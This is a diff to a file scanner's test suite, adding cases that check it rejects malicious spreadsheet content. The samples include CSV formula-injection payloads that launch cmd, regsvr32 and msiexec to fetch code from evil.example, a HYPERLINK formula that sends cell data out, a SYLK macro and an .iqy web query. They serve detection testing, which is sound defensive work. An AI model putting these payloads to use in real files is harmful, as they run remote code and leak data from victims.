@@ -156,6 +156,30 @@ describe('built-in engine: programs and scripts', () => {
     expect((await scan('memo.txt', Buffer.from('MZ team notes: meeting at ten.\n'))).kind).toBe('clean');
   });
 
+  it.each([
+    ["name,value\nx,=SUM(0,cmd|' /C calc'!A0)\n", 'csv-formula-injection'],
+    [
+      "name,value\nx,=regsvr32|' /s /u /i:http://evil.example/a.sct scrobj.dll'!A0\n",
+      'csv-formula-injection',
+    ],
+    ["name,value\nx,=msiexec|' /q /i http://evil.example/a.msi'!A0\n", 'csv-formula-injection'],
+    ['name,value\nx,"=IF(1,HYPERLINK(""http://evil.example/?""&A1,""CV""))"\n', 'csv-formula-network'],
+  ])(
+    'rejects a CSV formula that calls a program or the network past its first function: %j',
+    async (csv, rule) => {
+      expect((await scan('list.csv', Buffer.from(csv))).rules).toEqual([rule]);
+    },
+  );
+
+  it('refuses a SYLK spreadsheet whatever its name, and the names of files Excel runs as queries', async () => {
+    const sylk = 'ID;P\nC;Y1;X1;K0;EEXEC("calc.exe")\nNN;NAuto_open;ER1C1\nE\n';
+    expect((await scan('cv.csv', Buffer.from(sylk))).rules).toEqual(['type-not-allowed']);
+    expect((await scan('query.iqy', Buffer.from('WEB\n1\nhttp://evil.example/q\n'))).rules).toEqual([
+      'runnable-name',
+    ]);
+    expect((await scan('notes.csv', Buffer.from('IDs;names\n1;Taro\n'))).kind).toBe('clean');
+  });
+
   it('rejects a CSV cell that starts a program through DDE', async () => {
     const r = await scan('list.csv', Buffer.from("name,value\nx,=cmd|' /C calc'!A0\n"));
     expect(r.rules).toContain('csv-formula-injection');
